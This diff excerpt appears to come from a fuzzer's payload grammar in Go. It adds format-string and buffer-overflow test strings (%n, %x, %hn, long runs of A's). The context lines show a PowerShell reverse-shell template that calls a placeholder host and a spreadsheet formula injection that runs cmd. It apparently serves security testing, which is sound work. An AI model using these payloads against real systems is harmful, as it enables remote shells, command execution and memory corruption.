@@ -999,11 +999,13 @@ $x=New-Object System.Net.Sockets.TCPClient('«chost»',«n4»)`},
 1~gethostbyname(trim('«a6».example.net'))`},
 		// Programs in C and in spreadsheets, lines of mail, redirections.
 		{"fmt1", "%n\n%x\n%s\n%p\n%08x\n%d\n%.16705u\n%hn"},
-		{"fmts", "2~«fmt1»«fmt1»«fmt1»«fmt1»\n2~«fmt1».«fmt1».«fmt1».«fmt1»\n1~«fmts»«fmts»\n1~«fmt1»«fmt1»\n1~AAAA«fmts»\n1~«fmt1»-«fmt1»-«fmt1»\n1~%«nn»$«a1»%n"},
+		{"fmts", "2~«fmtr»\n1~«fmt1»«fmt1»«fmt1»«fmt1»\n1~«fmt1».«fmt1».«fmt1».«fmt1»\n1~«fmts»«fmts»\n1~AAAA«fmts»\n1~«a3»«fmts»\n1~«fmt1»-«fmt1»-«fmt1»\n1~%«nn»$«a1»%n"},
+		{"fmtr", "%s%s%s%s%s\n%n%n%n%n\n%x%x%x%x%x%x\n%x.%x.%x.%x\n%08x.%08x.%08x.%08x\n%p%p%p%p\n%p %p %p %p\n%d%d%d%d\n%s%p%x%d\n%08x%08x%08x%n\n%.1024d%n\n%99999999s\n%«n»$s\n%!s(%n)"},
 		{"rep8", "4~AAAAAAAA\n1~aaaaaaaa\n1~XXXXXXXX\n1~00000000\n1~99999999\n1~%00%00%00%00\n1~........\n1~((((((((\n1~[[[[[[[["},
 		{"repA", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
 		{"rep1", "11111111111111111111111111111111111111111111111111111111111111111"},
-		{"longs", "3~«repA»«repA»«repA»\n2~«repA»«repA»«repA»«repA»«repA»«repA»«repA»«repA»\n1~«rep1»«rep1»«rep1»«rep1»\n1~«repA»«repA»«repA»«repA»«tok»\n1~«longs»«longs»\n1~«slugword»«repA»«repA»«repA»«repA»"},
+		{"run32", "«repA»\nXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB\n«rep1»\nzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"},
+		{"longs", "2~«run32»\n2~«repA»«repA»\n3~«repA»«repA»«repA»\n2~«repA»«repA»«repA»«repA»«repA»«repA»«repA»«repA»\n1~«rep1»«rep1»«rep1»«rep1»\n1~«run32»«tok»\n1~«longs»«longs»\n1~«slugword»«repA»«repA»"},
 		{"oxMem", "4~«fmts»\n3~«longs»\n1~«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»"},
 		{"oxSheet", `
 1~=cmd|' /C «ccmd»'!A0
